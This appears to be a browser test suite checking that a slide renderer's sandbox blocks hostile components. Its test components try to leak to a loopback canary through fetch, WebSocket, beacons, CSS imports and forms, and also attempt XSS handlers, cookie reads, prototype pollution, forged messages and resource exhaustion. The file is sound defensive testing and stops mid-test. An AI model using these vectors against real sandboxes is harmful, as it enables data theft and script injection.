/**
 * The renderer's safety, in Chromium (issue 20, "Safe by construction"):
 * one test per invariant and one per hostile component. Every test that
 * opens a page checks that no connection reached the canary (a server on a
 * second loopback port whose address the hostile code names), that the
 * browser reported no request beyond the page's own and the renderer's
 * assets (nothing is intercepted: the browser shows what it would send),
 * that the request journal did not move, that the deck's benign slide
 * still renders and that navigation still works. Tests wait for messages
 * to appear, never for a time.
 */
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { RENDER_PROTOCOL } from '../../web/render/protocol.js'
import { launchChromium, screenshotPath } from './support/browser.js'
import { serveEmulator, type ServedEmulator } from './support/emulator.js'
import {
  ALICE,
  type Canary,
  displayFrame,
  errorOf,
  foreignRequests,
  layer,
  makeDeck,
  type ObservedPage,
  observedPage,
  type SlideSpec,
  settled,
  shown,
  slideRoot,
  startCanary,
} from './support/render.js'

const POLL = { timeout: 30_000 }

/** Hostile code records what each attempt did, and shows it. */
const PROBE = `const attempts: string[] = [];
function attempt(name: string, run: () => unknown) {
  try {
    const result: any = run();
    if (result && typeof result.then === "function") result.then(() => {}, () => {});
    attempts.push(name + ": ran");
  } catch (error) {
    attempts.push(name + ": refused (" + (error as Error).name + ")");
  }
}
const Attempts = () => <ul id="attempts">{attempts.map((a, i) => <li key={i}>{a}</li>)}</ul>;
`

/** A hostile component: the probe, then `body` (which may use CANARY), then a default export rendering `markup` and the attempts. */
function hostile(body: string, markup = ''): string {
  return `${PROBE}\n${body}\nexport default function Hostile() {\n  return <section className="slide">${markup}<Attempts /></section>;\n}\n`
}

const BENIGN: SlideSpec = {
  name: 'Benign',
  tsx: 'export default () => <section className="slide"><h1 id="benign">Benign slide</h1></section>',
}

interface Vector {
  name: string
  tsx: string
  content?: unknown
  /** Attempts that must have been refused (by their name in the probe). */
  refused?: string[]
  /** The slide fails with this message instead of rendering. */
  fails?: RegExp
  /** Extra checks on the page afterwards. */
  check?: (page: Page, id: string) => Promise<void>
}

describe('the slide renderer’s safety, in Chromium', () => {
  let browser: Browser
  let served: ServedEmulator
  let canary: Canary
  let observed: ObservedPage | undefined
  /** Console errors a test expects (from the sandbox), removed before the after-each check. */
  let expectedErrors: RegExp[] = []

  beforeAll(async () => {
    browser = await launchChromium()
    served = await serveEmulator()
    canary = await startCanary()
  })
  afterAll(async () => {
    await browser?.close()
    await served?.close()
    await canary?.close()
  })
  afterEach(async () => {
    const page = observed
    const allowed = expectedErrors
    observed = undefined
    expectedErrors = []
    try {
      expect(canary.connections, `connections to the canary: ${canary.requests.join(', ')}`).toBe(0)
      if (page === undefined) return
      expect(foreignRequests(page.requests, served.origin)).toEqual([])
      expect(page.sockets).toEqual([])
      expect(page.dialogs).toEqual([])
      expect(page.errors.filter((error) => !allowed.some((pattern) => pattern.test(error)))).toEqual([])
    } finally {
      await page?.close()
    }
  })

  /**
   * What the browser logs when the sanitiser's inert document parses hostile markup (a `<base>`, an
   * `on*` attribute): the frame's CSP refusing it, before the sanitiser removes it. Nothing runs or loads.
   */
  const REFUSED_WHILE_SANITISING =
    /violates the following Content Security Policy directive.*\(http:\/\/127\.0\.0\.1:\d+\/_emulator\/assets\/render\/(renderer|slide)\.html\?v=\w+\)$/

  const journal = async () => (await served.emulator.control.listRequests({ limit: 500 })).requests.length

  /** Opens a deck's editor and waits until every slide has rendered or failed. */
  async function openDeck(
    slides: SlideSpec[],
    name = 'Hostile deck',
  ): Promise<{ page: Page; slug: string; ids: string[]; journalBefore: number }> {
    const { slug, ids } = await makeDeck(served, name, slides)
    const journalBefore = await journal()
    observed = await observedPage(browser)
    await observed.page.goto(`${served.origin}/editor/${slug}`)
    await settled(observed.page)
    return { page: observed.page, slug, ids, journalBefore }
  }

  /** The benign slide rendered, navigation works, the page is where it was, the journal did not move. */
  async function stillFine(page: Page, slug: string, ids: string[], journalBefore: number): Promise<void> {
    expect((await shown(page, ids[ids.length - 1]!)).text).toContain('Benign slide')
    const count = ids.length
    await page.locator('#next').focus()
    await page.keyboard.press('End')
    expect(await page.locator('#counter').textContent()).toBe(`${count} / ${count}`)
    await page.keyboard.press('Home')
    expect(await page.locator('#counter').textContent()).toBe(`1 / ${count}`)
    expect(await page.evaluate(() => location.pathname)).toBe(`/editor/${slug}`)
    expect(await journal()).toBe(journalBefore)
  }

  const VECTORS: Vector[] = [
    {
      name: 'fetch',
      tsx: hostile('attempt("fetch", () => fetch("CANARY/fetch"));\nattempt("self.fetch", () => (self as any).fetch("CANARY/fetch2"));'),
      refused: ['fetch', 'self.fetch'],
    },
    {
      name: 'XMLHttpRequest',
      tsx: hostile('attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "CANARY/xhr"); x.send(); });'),
      refused: ['xhr'],
    },
    { name: 'WebSocket', tsx: hostile('attempt("ws", () => new WebSocket("CANARY/ws".replace("http", "ws")));'), refused: ['ws'] },
    { name: 'EventSource', tsx: hostile('attempt("es", () => new EventSource("CANARY/es"));'), refused: ['es'] },
    {
      name: 'sendBeacon',
      tsx: hostile('attempt("beacon", () => (navigator as any).sendBeacon("CANARY/beacon", "x"));'),
      refused: ['beacon'],
    },
    {
      name: 'img and srcset',
      tsx: hostile(
        '',
        '<img id="i1" src="CANARY/img.png" /><img id="i2" srcSet="CANARY/a.png 1x, CANARY/b.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" /><picture><source srcSet="CANARY/p.webp" /><img src="CANARY/p.png" /></picture><svg><image href="CANARY/svg.png" width="10" height="10" /><use href="CANARY/sprite.svg#a" /></svg><video poster="CANARY/poster.png" /><input type="image" src="CANARY/input.png" />',
      ),
      check: async (page, id) => {
        const { html } = await shown(page, id)
        expect(html).not.toContain('127.0.0.1')
        expect(html).toContain('id="i2"')
      },
    },
    {
      name: 'CSS url(), @import and @font-face',
      tsx: hostile(
        '',
        '<style>{"@import url(CANARY/import.css); @import \\"CANARY/import2.css\\"; @font-face { font-family: evil; src: url(CANARY/font.woff2) } .evil { background: url(CANARY/rule.png); font-family: evil } .set { background-image: image-set(\\"CANARY/set.png\\" 1x) } .esc { background: u\\\\72l(CANARY/escaped.png) } .ok { color: rgb(1, 2, 3) }"}</style><div className="evil ok set esc" style={{ backgroundImage: "url(CANARY/inline.png)", color: "rgb(4, 5, 6)" }}>styled</div><svg><style>{"rect { fill: url(CANARY/fill.svg#f) }"}</style><rect width="10" height="10" /></svg>',
      ),
      check: async (page, id) => {
        for (const place of ['thumb', 'stage'] as const) expect((await shown(page, id, place)).html).not.toContain('127.0.0.1')
        // What was harmless stays.
        const frame = await displayFrame(page, id, 'stage')
        expect(await frame.locator('.ok').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(4, 5, 6)')
      },
    },
    {
      name: 'link prefetch, preconnect and dns-prefetch',
      tsx: hostile(
        '',
        '<link rel="prefetch" href="CANARY/prefetch" /><link rel="preconnect" href="CANARY" /><link rel="dns-prefetch" href="CANARY" /><link rel="preload" href="CANARY/preload.js" as="script" /><link rel="stylesheet" href="CANARY/sheet.css" /><link rel="modulepreload" href="CANARY/m.js" />',
      ),
      check: async (page, id) => expect((await shown(page, id)).html).not.toContain('<link'),
    },
    {
      name: 'import()',
      tsx: hostile(
        'let imported = "not yet";\nawait import("CANARY/module.js").then(() => { imported = "loaded"; }, (error) => { imported = "refused: " + error.message; });\nattempts.push("import(): " + imported);',
      ),
      check: async (page, id) =>
        expect((await shown(page, id)).text).toMatch(
          /import\(\): refused: slide\.tsx imports "http:\/\/127\.0\.0\.1:\d+\/module\.js", which a slide cannot use/,
        ),
    },
    {
      name: 'importScripts',
      tsx: hostile(
        'attempt("importScripts", () => (self as any).importScripts("CANARY/is.js"));\nattempt("importScripts of the state", () => (self as any).importScripts("ORIGIN/_emulator/state"));\nattempt("prototype importScripts", () => (WorkerGlobalScope as any).prototype.importScripts.call(self, "CANARY/is2.js"));',
      ),
      refused: ['importScripts', 'importScripts of the state', 'prototype importScripts'],
    },
    {
      name: 'new Worker',
      tsx: hostile(
        'attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch(\'CANARY/nested\')"]))));\nattempt("shared worker", () => new SharedWorker("CANARY/shared.js"));',
      ),
      refused: ['worker', 'shared worker'],
    },
    {
      name: 'RTCPeerConnection',
      tsx: hostile('attempt("rtc", () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }));'),
      refused: ['rtc'],
    },
    {
      name: 'a form',
      tsx: hostile(
        '',
        '<form id="f" action="CANARY/form" method="post"><input name="x" defaultValue="1" /><button type="submit">Send</button></form><button id="fa" formAction="CANARY/formaction">Go</button>',
      ),
      check: async (page, id) => {
        for (const place of ['thumb', 'stage'] as const) {
          const root = await slideRoot(page, id, place)
          expect(await root.evaluate((box) => box.querySelectorAll('form, [formaction]').length)).toBe(0)
        }
        // A click on the slide reaches nothing in it: display frames are inert.
        await page.locator('#stage').click()
      },
    },
    {
      name: 'location, meta refresh, window.open and top navigation',
      tsx: hostile(
        'attempt("location", () => { (self as any).location.href = "CANARY/location"; if (String(self.location).includes("CANARY")) throw new Error("moved"); });\nattempt("open", () => (self as any).open("CANARY/open"));\nattempt("top", () => { (self as any).top.location = "CANARY/top"; });',
        '<meta httpEquiv="refresh" content="0;url=CANARY/refresh" /><base href="CANARY/" /><a id="top" href="CANARY/link" target="_top">go</a><a href="#here">here</a>',
      ),
      refused: ['open', 'top'],
      check: async (page, id) => {
        const { html } = await shown(page, id)
        expect(html).not.toMatch(/<meta|<base|127\.0\.0\.1/)
        expect(html).toContain('href="#here"')
      },
    },
    {
      name: 'cookies, storage and parent.document',
      tsx: hostile(
        'attempt("document.cookie", () => (self as any).document.cookie);\nattempt("localStorage", () => (self as any).localStorage.getItem("x"));\nattempt("indexedDB", () => (self as any).indexedDB.open("x"));\nattempt("caches", () => (self as any).caches.keys());\nattempt("cookieStore", () => (self as any).cookieStore.getAll());\nattempt("parent.document", () => (self as any).parent.document.body);',
      ),
      refused: ['document.cookie', 'localStorage', 'indexedDB', 'caches', 'cookieStore', 'parent.document'],
    },
    {
      name: 'allocating until out of memory',
      tsx: 'export default function Greedy() {\n  const hoard: number[][] = [];\n  while (true) hoard.push(new Array(1_000_000).fill(1.5));\n}\n',
      fails: /did not finish|memory|allocation|stopped/i,
    },
    {
      name: 'an endless loop',
      tsx: 'export default function Loop() {\n  for (;;) {}\n}\n',
      fails: /Component stopped.*did not finish within 2 s, so it was stopped/s,
    },
  ]

  /** Opens a deck with the vector's component after `before` (benign slides), and the benign slide last; answers its slide's id. */
  async function openVector(vector: Vector, before: SlideSpec[], deck: string) {
    expectedErrors = [REFUSED_WHILE_SANITISING]
    const tsx = vector.tsx.replaceAll('CANARY', canary.origin).replaceAll('ORIGIN', served.origin)
    const opened = await openDeck([...before, { name: vector.name, tsx }, BENIGN], `${deck}: ${vector.name}`)
    return { ...opened, id: opened.ids[before.length]! }
  }

  /** The slide rendered, and shows each attempt the vector names as refused. */
  async function expectRefused(page: Page, id: string, vector: Vector): Promise<void> {
    expect(await layer(page, id, 'thumb').getAttribute('data-state'), await errorOf(page, id)).toBe('rendered')
    const { text } = await shown(page, id)
    for (const name of vector.refused ?? []) expect(text).toMatch(new RegExp(`${name.replace(/[()]/g, '\\$&')}: refused`))
  }

  it.each(VECTORS)('contains a component that tries $name', async (vector) => {
    const { page, slug, ids, journalBefore, id } = await openVector(vector, [], 'Hostile')
    if (vector.fails !== undefined) {
      expect(await layer(page, id, 'thumb').getAttribute('data-state')).toBe('failed')
      expect(await errorOf(page, id)).toMatch(vector.fails)
    } else {
      await expectRefused(page, id, vector)
    }
    await vector.check?.(page, id)
    await page.screenshot({ path: screenshotPath(`render-hostile-${vector.name.replace(/\W+/g, '-').toLowerCase()}`) })
    await stillFine(page, slug, ids, journalBefore)
  })

  // The first slide may render alone in a one-slide worker; from the second on, slides render in the locked workers.
  it.each(VECTORS.filter((vector) => vector.refused !== undefined))(
    'contains, in a locked worker (the second slide), a component that tries $name',
    async (vector) => {
      const { page, slug, ids, journalBefore, id } = await openVector(vector, [BENIGN], 'Locked')
      await expectRefused(page, id, vector)
      await stillFine(page, slug, ids, journalBefore)
    },
  )

  it('keeps focus where the person put it: a component cannot steal it', async () => {
    const tsx = hostile(
      '',
      '<input id="grab" autoFocus /><button autoFocus>Me</button><dialog open>Look</dialog><div tabIndex={0} id="tab">tab</div>',
    )
    const { slug, ids } = await makeDeck(served, 'Focus thief', [{ tsx }, BENIGN])
    const journalBefore = await journal()
    observed = await observedPage(browser)
    const page = observed.page
    await page.goto(`${served.origin}/editor/${slug}`)
    await page.locator('#next').focus()
    await settled(page)
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('next')
    const { html } = await shown(page, ids[0]!)
    expect(html).not.toMatch(/autofocus/i)
    // Tabbing from the thumbnails never enters a slide's frame.
    await page.locator('#thumbs .thumb').first().focus()
    for (let i = 0; i < 4; i++) {
      await page.keyboard.press('Tab')
      expect(await page.evaluate(() => document.activeElement?.tagName)).not.toBe('IFRAME')
    }
    await stillFine(page, slug, ids, journalBefore)
  })

  it('keeps one slide’s tampering with globals (Array.prototype, JSON, the port) out of every other slide’s output', async () => {
    const tampering = `Array.prototype.map = function () { return ["pwned"] } as any;
Array.prototype.join = function () { return "pwned" };
(Object.prototype as any).polluted = "yes";
JSON.parse = () => ({ title: "pwned" });
String.prototype.toUpperCase = function () { return "PWNED" };
MessagePort.prototype.postMessage = function (this: MessagePort) { return Reflect.apply(Object.getPrototypeOf(this).constructor.prototype.postMessage, this, [{ type: "done", html: "<p>forged</p>" }]) } as any;
(globalThis as any).sharedSecret = "left behind";
export default function Tamper() { return <p>tampered</p>; }
`
    const benign = `import content from "./slide.content.json";
export default function Clean() {
  const items = [1, 2, 3].map((n) => n * 2).join(",");
  return <p id="clean">{items} {content.title.toUpperCase()} {String(({} as any).polluted)} {String((globalThis as any).sharedSecret)}</p>;
}
`
    const { page, slug, ids, journalBefore } = await openDeck(
      [
        { name: 'Tamper', tsx: tampering },
        { name: 'Clean', tsx: benign, content: { title: 'clean', blocks: [] } },
        { name: 'Clean again', tsx: benign, content: { title: 'again', blocks: [] } },
        BENIGN,
      ],
      'Tampering',
    )
    expect((await shown(page, ids[1]!)).text).toBe('2,4,6 CLEAN undefined undefined')
    expect((await shown(page, ids[2]!)).text).toBe('2,4,6 AGAIN undefined undefined')
    await stillFine(page, slug, ids, journalBefore)
  })

  it('takes messages only from the frames it made: forged results and displays change nothing', async () => {
    const { page, slug, ids, journalBefore } = await openDeck(
      [{ name: 'Real', tsx: 'export default () => <p id="real">real output</p>' }, BENIGN],
      'Forgery',
    )
    const forged = `<img src="${canary.origin}/forged.png"><p id="forged">forged</p>`
    // From the page itself, from the stage's display frame (as if compromised) and from the renderer frame with an unknown id.
    await page.evaluate(
      ({ protocol, forged }) => {
        window.postMessage({ protocol, type: 'result', id: 'r1', ok: true, html: forged, xhtml: forged }, '*')
        window.postMessage({ protocol, type: 'ready' }, '*')
      },
      { protocol: RENDER_PROTOCOL, forged },
    )
    const display = await displayFrame(page, ids[0]!, 'stage')
    await display.evaluate(
      ({ protocol, forged }) => {
        parent.postMessage({ protocol, type: 'result', id: 'r1', ok: true, html: forged, xhtml: forged }, '*')
        parent.postMessage({ protocol, type: 'result', id: 'r2', ok: false, error: { kind: 'runtime', message: '<b>forged</b>' } }, '*')
        parent.postMessage({ protocol, type: 'shown', seq: 99 }, '*')
      },
      { protocol: RENDER_PROTOCOL, forged },
    )
    const renderer = page.frames().find((frame) => frame.url().includes('/render/renderer.html'))!
    await renderer.evaluate(
      ({ protocol, forged }) =>
        parent.postMessage({ protocol, type: 'result', id: 'no-such-render', ok: true, html: forged, xhtml: forged }, '*'),
      { protocol: RENDER_PROTOCOL, forged },
    )
    // The page answers something after them all (a navigation), so every message has been handled by now.
    await page.keyboard.press('ArrowRight')
    await page.keyboard.press('ArrowLeft')
    for (const place of ['thumb', 'stage'] as const) {
      expect((await shown(page, ids[0]!, place)).text).toBe('real output')
      expect(await layer(page, ids[0]!, place).getAttribute('data-state')).toBe('rendered')
    }
    expect(await page.locator('text=forged').count()).toBe(0)
    await stillFine(page, slug, ids, journalBefore)
  })

  it('invariant 1: components run only in workers of sandboxed frames with an opaque origin, frames without any other permission', async () => {
    // Its own script's address says where it runs (a blob: address of an opaque origin is blob:null/…); there is no document or window.
    const probe = `export default function Where() {
  const opaque = /blob:null\\//.test(String(new Error().stack));
  return <p id="where">{opaque ? "opaque" : "not opaque"} {typeof (self as any).document} {typeof (self as any).window}</p>;
}`
    const { page, slug, ids, journalBefore } = await openDeck([{ tsx: probe }, BENIGN], 'Where it runs')
    expect((await shown(page, ids[0]!)).text).toBe('opaque undefined undefined')
    const frames = await page.evaluate(() =>
      [...document.querySelectorAll('iframe')].map((f) => ({
        sandbox: f.getAttribute('sandbox'),
        srcdoc: f.hasAttribute('srcdoc'),
        src: f.getAttribute('src'),
      })),
    )
    // The renderer and the stage's display frame (thumbnails are pictures).
    expect(frames.map((frame) => frame.src?.replace(/\?.*/, '')).sort()).toEqual([
      '/_emulator/assets/render/renderer.html',
      '/_emulator/assets/render/slide.html',
    ])
    for (const frame of frames) {
      expect(frame.sandbox).toBe('allow-scripts')
      expect(frame.srcdoc).toBe(false)
      expect(frame.src).toMatch(/^\/_emulator\/assets\/render\/(renderer|slide)\.html\?v=/)
    }
    for (const frame of page.frames().slice(1)) expect(await frame.evaluate(() => self.origin)).toBe('null')
    await stillFine(page, slug, ids, journalBefore)
  })

  it('invariant 2: each frame document is served with its own CSP, sandboxed even when opened directly, and the policy a worker inherits refuses every script and connection', async () => {
    for (const name of ['renderer.html', 'slide.html']) {
      const response = await fetch(`${served.origin}/_emulator/assets/render/${name}?v=x`)
      const csp = response.headers.get('content-security-policy') ?? ''
      const directives = new Map(csp.split(';').map((part) => [part.trim().split(/\s+/)[0]!, part.trim().split(/\s+/).slice(1).join(' ')]))
      expect(directives.get('sandbox')).toBe('allow-scripts')
      expect(directives.get('default-src')).toBe("'none'")
      expect(directives.get('connect-src')).toBe("'none'")
      expect(directives.get('frame-src')).toBe("'none'")
      expect(directives.get('form-action')).toBe("'none'")
      expect(directives.get('base-uri')).toBe("'none'")
      // Its one inline script, by hash (and for the renderer's workers, blob: scripts it makes): no script at any origin's address.
      expect(directives.get('script-src')).toMatch(
        name === 'renderer.html' ? /^'sha256-[A-Za-z0-9+/]+=*' blob:$/ : /^'sha256-[A-Za-z0-9+/]+=*'$/,
      )
      expect(response.headers.get('x-dns-prefetch-control')).toBe('off')
    }
    // Opened directly: sandboxed by its own CSP, it says what it is and does nothing.
    observed = await observedPage(browser)
    const page = observed.page
    for (const name of ['renderer.html', 'slide.html']) {
      await page.goto(`${served.origin}/_emulator/assets/render/${name}`)
      expect(await page.evaluate(() => self.origin)).toBe('null')
      await expect.poll(() => page.locator('body').textContent(), POLL).toMatch(/Opened on its own, it (does|shows) nothing/)
      await page.evaluate(
        ({ protocol }) =>
          window.postMessage(
            { protocol, type: 'render', id: 'x', slide: { code: 'fetch("/x")', mappings: '', content: '{}', controls: '{}' }, props: {} },
            '*',
          ),
        { protocol: RENDER_PROTOCOL },
      )
    }
    expect(observed.requests.filter((url) => url.startsWith('blob:'))).toEqual([])
    // Under the renderer frame's policy, a worker started without the renderer's own script (no globals removed) is refused everything else.
    await page.goto(`${served.origin}/_emulator/assets/render/renderer.html`)
    const results = await page.evaluate(
      async ({ canary, origin }) => {
        const source = `const out = {};
try { importScripts(${JSON.stringify(`${origin}/_emulator/state`)}); out.state = 'loaded' } catch (e) { out.state = e.name }
try { importScripts(${JSON.stringify(`${canary}/script.js`)}); out.script = 'loaded' } catch (e) { out.script = e.name }
try { eval('1'); out.eval = 'ran' } catch (e) { out.eval = e.name }
try { new Function('return 1'); out.fn = 'ran' } catch (e) { out.fn = e.name }
Promise.allSettled([fetch(${JSON.stringify(`${canary}/fetch`)}), import(${JSON.stringify(`${canary}/m.js`)}), fetch(${JSON.stringify(`${origin}/_emulator/state`)})]).then((r) => { out.fetch = r.map((x) => x.status).join(); postMessage(out) })`
        const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })))
        return await new Promise<Record<string, string>>((resolve) => {
          worker.onmessage = (event) => resolve(event.data)
        })
      },
      { canary: canary.origin, origin: served.origin },
    )
    expect(results).toEqual({
      state: 'NetworkError',
      script: 'NetworkError',
      eval: 'EvalError',
      fn: 'EvalError',
      fetch: 'rejected,rejected,rejected',
    })
    // Whatever the browser reported of those attempts was refused by the policy before any connection
    // (a refusal's event may arrive after the worker's answer: polled, not read once).
    const seen = observed!
    const attempted = foreignRequests(seen.requests, served.origin)
    for (const url of attempted) await expect.poll(() => seen.failed.some((failure) => failure.startsWith(url)), POLL).toBe(true)
    expectedErrors = [/Content Security Policy|Refused to|Failed to fetch|importScripts/]
    seen.requests = seen.requests.filter((url) => !attempted.includes(url))
  })

  it('invariant 3: markup reaching a document holds no script, link, meta, base, iframe, object, embed, form, on* attribute or ping', async () => {
    const markup = `<script>{"parent.postMessage('x', '*')"}</script><link rel="icon" href="/x" /><meta name="x" content="y" /><base href="/" /><iframe src="/_emulator" /><object data="/x" /><embed src="/x" /><form><input /></form><a href="#a" ping="/ping" onClick={undefined}>a</a><div {...{ onclick: "alert(1)", onmouseover: "alert(2)" }}>handlers</div><svg onload="alert(3)"><a xlinkHref="javascript:alert(4)"><text>svg</text></a></svg><img src="x" onError={undefined} {...{ onerror: "alert(5)" }} /><p dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(6)><script>alert(7)</script>" }} />`
    expectedErrors = [REFUSED_WHILE_SANITISING]
    const { page, slug, ids, journalBefore } = await openDeck([{ tsx: hostile('', markup) }, BENIGN], 'Markup')
    for (const place of ['thumb', 'stage'] as const) {
      const found = await (await slideRoot(page, ids[0]!, place)).evaluate((root) => {
        const elements = [...root.querySelectorAll('*')]
        return {
          forbidden: root.querySelectorAll('script, link, meta, base, iframe, object, embed, form').length,
          handlers: elements.flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
          ping: root.querySelectorAll('[ping]').length,
          javascript: root.innerHTML.includes('javascript:'),
        }
      })
      expect(found).toEqual({ forbidden: 0, handlers: [], ping: 0, javascript: false })
    }
    await stillFine(page, slug, ids, journalBefore)
  })

  it('invariant 4: the editor’s and the sites’ own CSP gains only frame-src for the renderer, and never unsafe-eval, unsafe-inline or blob: for scripts', async () => {
    const { slug } = await makeDeck(served, 'Policies', [BENIGN])
    const site = (await served.api('POST', `/projects/${slug}/publish`, ALICE)).body.publishedUrl as string
    for (const url of [`${served.origin}/editor/${slug}`, site]) {
      const csp = (await fetch(url)).headers.get('content-security-policy') ?? ''
      const directives = new Map(csp.split(';').map((part) => [part.trim().split(/\s+/)[0]!, part.trim().split(/\s+/).slice(1)]))
      expect(directives.get('script-src')).toEqual(["'self'"])
      expect(csp).not.toMatch(/unsafe-eval|blob:/)
      expect(directives.get('frame-src')).toEqual([`${served.origin}/_emulator/assets/render/`])
      expect(directives.get('default-src')).toEqual(["'none'"])
    }
  })

  it('invariant 5: pages never hold an API key or the admin token, the dashboard never embeds the renderer, and error text from a frame is only text', async () => {
    const guarded = await serveEmulator({ adminToken: 'admin-secret-token' })
    try {
      const project = (await guarded.api('POST', '/projects', ALICE, { name: 'Keys' })).body
      await guarded.api('POST', `/projects/${project.projectSlug}/slides`, ALICE, {
        files: { 'slide.tsx': 'export default () => { throw new Error("<img src=x onerror=alert(1)>") }' },
      })
      const site = (await guarded.api('POST', `/projects/${project.projectSlug}/publish`, ALICE)).body.publishedUrl as string
      const secrets = ['pres_test_alice', 'pres_test_alice_acme', 'pres_test_bob', 'admin-secret-token']
      const stream = await fetch(`${guarded.origin}/editor/${project.projectSlug}/events`)
      const reader = stream.body!.getReader()
      const first = new TextDecoder().decode((await reader.read()).value)
      await reader.cancel()
      for (const text of [
        await (await fetch(`${guarded.origin}/editor/${project.projectSlug}`)).text(),
        await (await fetch(site)).text(),
        first,
      ]) {
        for (const secret of secrets) expect(text).not.toContain(secret)
      }
      observed = await observedPage(browser)
      const page = observed.page
      await page.goto(`${guarded.origin}/_emulator?token=admin-secret-token`)
      expect(await page.locator('iframe').count()).toBe(0)
      const dashboard = (await fetch(`${guarded.origin}/_emulator?token=admin-secret-token`)).headers.get('content-security-policy') ?? ''
      expect(dashboard).not.toContain('frame-src')
      expect(dashboard).toContain("frame-ancestors 'none'")
      await page.goto(`${guarded.origin}/editor/${project.projectSlug}`)
      await settled(page)
      const error = page.locator('#stage .component-error-message')
      expect(await error.textContent()).toBe('<img src=x onerror=alert(1)>')
      expect(await page.locator('#stage .component-error img').count()).toBe(0)
      observed.requests = observed.requests.filter((url) => !url.startsWith(`${guarded.origin}/_emulator`) || url.includes('/assets/'))
      expect(foreignRequests(observed.requests, guarded.origin)).toEqual([])
      observed.requests = []
    } finally {
      await guarded.close()
    }
  })

  it('invariant 6: markup over the size limit is refused before any document parses it, and the rest renders', async () => {
    const big = 'export default function Big() {\n  return <p>{"x".repeat(1_200_000)}</p>;\n}\n'
    const { page, slug, ids, journalBefore } = await openDeck([{ tsx: big }, BENIGN], 'Too big')
    expect(await layer(page, ids[0]!, 'thumb').getAttribute('data-state')).toBe('failed')
    expect(await errorOf(page, ids[0]!)).toMatch(/markup is 1,200,007 characters, over the 1,000,000 a slide may have/)
    await stillFine(page, slug, ids, journalBefore)
  })

  it('invariant 6: renders wait their turn, at most two at once, in two workers that each render slide after slide', async () => {
    const busy = (n: number) =>
      `export default function Busy() {\n  const end = Date.now() + 300;\n  while (Date.now() < end) {}\n  return <p>busy ${n}</p>;\n}\n`
    const { slug, ids } = await makeDeck(served, 'Queue', [...Array.from({ length: 6 }, (_, n) => ({ tsx: busy(n) })), BENIGN])
    const journalBefore = await journal()
    observed = await observedPage(browser)
    const page = observed.page
    let alive = 0
    let most = 0
    let started = 0
    page.on('worker', (worker) => {
      started++
      most = Math.max(most, ++alive)
      worker.on('close', () => alive--)
    })
    await page.goto(`${served.origin}/editor/${slug}`)
    await settled(page)
    for (const [n, id] of ids.slice(0, 6).entries()) expect((await shown(page, id)).text).toBe(`busy ${n}`)
    // Seven slides, two kept workers (started when the renderer loaded, each used again once its slide's work
    // was over) and, while they warm, one for the first slide alone.
    expect(started).toBeLessThanOrEqual(3)
    expect(most).toBeLessThanOrEqual(3)
    await stillFine(page, slug, ids, journalBefore)
  })

  it('invariant 6: a slide that changes everything it can reach changes nothing of the next slide rendered in its worker', async () => {
    // Every attempt is caught, so this slide renders and its worker goes on to render the others.
    const tampering = `import * as React from "react";
const h = React.createElement;
const tries: string[] = [];
function t(name: string, run: () => void) {
  try { run(); tries.push(name + ": done"); } catch { tries.push(name + ": refused"); }
}
t("Array.prototype", () => { Array.prototype.map = function () { return ["pwned"]; } as any; });
t("Object.prototype", () => { (Object.prototype as any).polluted = "yes"; });
t("JSON", () => { (JSON as any).parse = () => ({ title: "pwned" }); });
t("String.prototype", () => { String.prototype.toUpperCase = function () { return "PWNED"; }; });
t("a global", () => { (globalThis as any).sharedSecret = "left behind"; });
t("the global JSON", () => { (globalThis as any).JSON = { parse: () => ({ title: "pwned" }) }; });
t("console", () => { (console as any).log = () => {}; });
t("its React", () => { (React.Children as any).count = () => 99; });
t("lockdown", () => { (globalThis as any).lockdown(); });
export default function QuietTamper() { return h("p", { id: "quiet" }, tries.join("; ")); }
`
    const benign = `import content from "./slide.content.json";
import { Children } from "react";
export default function Clean() {
  const items = [1, 2, 3].map((n) => n * 2).join(",");
  return <p id="clean">{items} {content.title.toUpperCase()} {String(({} as any).polluted)} {String((globalThis as any).sharedSecret)} {Children.count([1, 2, 3])}</p>;
}
`
    // The first slide may render alone in a worker of its own (while the kept ones warm): the tampering one comes second.
    const { slug, ids } = await makeDeck(served, 'Quiet tampering', [
      BENIGN,
      { name: 'Tamper', tsx: tampering },
      ...['one', 'two', 'three', 'four'].map((title) => ({ name: `Clean ${title}`, tsx: benign, content: { title, blocks: [] } })),
      BENIGN,
    ])
    const journalBefore = await journal()
    observed = await observedPage(browser)
    const page = observed.page
    let started = 0
    page.on('worker', () => started++)
    await page.goto(`${served.origin}/editor/${slug}`)
    await settled(page)
    expect((await shown(page, ids[1]!)).text).toBe(
      'Array.prototype: refused; Object.prototype: refused; JSON: refused; String.prototype: refused; a global: refused; the global JSON: refused; console: refused; its React: done; lockdown: refused',
    )
    for (const [n, title] of ['ONE', 'TWO', 'THREE', 'FOUR'].entries()) {
      expect((await shown(page, ids[n + 2]!)).text).toBe(`2,4,6 ${title} undefined undefined 3`)
    }
    // No kept worker ended: the slides after the tampering one ran in the workers it had run in.
    expect(started).toBeLessThanOrEqual(3)
    await stillFine(page, slug, ids, journalBefore)
  })

  it('invariant 6: a worker whose slide left work running is ended instead of used again, and the other slides render', async () => {
    const looping = `export default function Looping() {
  const spin = (): unknown => Promise.resolve().then(spin);
  spin();
  return <p id="looping">left a loop running</p>;
}
`
    const { page, slug, ids, journalBefore } = await openDeck([{ tsx: looping }, BENIGN, BENIGN, BENIGN], 'Left running')
    expect((await shown(page, ids[0]!, 'stage')).text).toBe('left a loop running')
    for (const id of ids.slice(1)) expect((await shown(page, id)).text).toContain('Benign slide')
    await stillFine(page, slug, ids, journalBefore)
  })

  it('invariant 7: images load from data: and the emulator only, and with --allow-remote-images only the URLs the content names verbatim', async () => {
    const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
    const images = await startCanary({ images: true })
    const remote = `${images.origin}/photo.png?w=200&h=100`
